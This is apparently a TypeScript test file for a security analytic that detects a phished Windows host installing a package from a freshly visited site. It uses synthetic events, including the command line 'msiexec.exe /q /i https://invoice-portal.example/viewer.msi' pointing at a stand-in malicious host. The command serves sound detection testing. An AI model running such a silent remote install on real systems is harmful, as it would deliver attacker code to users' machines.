import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../src/model/event.js';
import { FindingsService } from '../../src/services/findingsService.js';
import { useFreshGraph, writeAndDetect } from '../support/graph.js';

const t0 = Date.parse('2024-10-07T14:00:00Z');
const evilIp = '203.0.113.66';

/** A user's browser visits a site; `afterMs` later msiexec installs a package straight from it. */
function visitThenInstall(hostId: string, afterMs: number): NormalizedEvent[] {
  const host = { id: hostId, name: hostId, os: 'windows' as const };
  const at = (id: string, ts: number) => ({ v: 1 as const, id: `${hostId}-${id}`, ts, host, source: { format: 'test', recordId: `${hostId}-${id}` } });
  const browser = { uid: `${hostId}|{browser}`, pid: 100, image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' };
  const msiexec = { uid: `${hostId}|{msiexec}`, pid: 200, image: 'C:\\Windows\\System32\\msiexec.exe' };
  const visit = t0 - afterMs;
  return [
    { ...at('browser', visit - 60_000), kind: 'process.start', process: { ...browser, commandLine: 'chrome.exe' } },
    { ...at('visit-dns', visit), kind: 'dns.query', actor: browser, query: 'invoice-portal.example', answers: [evilIp] },
    { ...at('visit', visit + 100), kind: 'network.connect', actor: browser, direction: 'outbound', protocol: 'tcp', dstIp: evilIp, dstPort: 443, dstHostname: 'invoice-portal.example' },
    { ...at('msiexec', t0), kind: 'process.start', process: { ...msiexec, commandLine: 'msiexec.exe /q /i https://invoice-portal.example/viewer.msi' } },
    { ...at('fetch', t0 + 2_000), kind: 'network.connect', actor: msiexec, direction: 'outbound', protocol: 'tcp', dstIp: evilIp, dstPort: 443, dstHostname: 'invoice-portal.example' },
  ];
}

describe('AN0445: the visit that led to an install does not make its package source seen', () => {
  const graph = useFreshGraph();

  it('flags the remote install after the same host visited the site a minute before, not after another host fetched from it yesterday', async () => {
    const phished = visitThenInstall('ws-phished', 60_000);
    await writeAndDetect(graph.driver, phished);
    // Another host's visit the day before makes the site seen for a third host's install.
    const earlier = visitThenInstall('ws-early', 0).map((e) => ({ ...e, ts: e.ts - 86_400_000 })).filter((e) => !e.id.endsWith('-msiexec') && !e.id.endsWith('-fetch'));
    const later = visitThenInstall('ws-later', 0).filter((e) => e.id.endsWith('-msiexec') || e.id.endsWith('-fetch'));
    for (const batch of [earlier, later]) await writeAndDetect(graph.driver, batch);
    const found = (await new FindingsService(graph.driver).list({ analytic: 'AN0445' }, 10)).items;
    expect(found.map((f) => [f.hostName, f.signals])).toEqual([['ws-phished', ['remotePackage', 'unseenDestination']]]);
  });

  it('does not count a visit a network sensor saw from an address no host claimed (it may be this host)', async () => {
    const sensed = visitThenInstall('ws-zeek', 60_000).filter((e) => !e.id.startsWith('ws-zeek-visit'));
    const sensor = { id: 'ip:10.50.0.9', name: '10.50.0.9', os: 'unknown' as const };
    // Forty days on, past FirstSeenLookback (30 d) from the other tests' contacts with the site.
    const later = 40 * 86_400_000;
    const zeekVisit: NormalizedEvent = { v: 1, id: 'zeek-visit', ts: t0 + later - 60_000, host: sensor, source: { format: 'zeek', recordId: 'zeek-visit' }, kind: 'network.connect', direction: 'outbound', protocol: 'tcp', srcIp: '10.50.0.9', dstIp: evilIp, dstPort: 443, dstHostname: 'invoice-portal.example', hostByIp: '10.50.0.9' };
    const events = [zeekVisit, ...sensed.map((e) => ({ ...e, ts: e.ts + later }))];
    await writeAndDetect(graph.driver, events);
    const found = (await new FindingsService(graph.driver).list({ analytic: 'AN0445', hostName: 'ws-zeek' }, 10)).items;
    expect(found.map((f) => f.signals)).toEqual([['remotePackage', 'unseenDestination']]);
  });
});

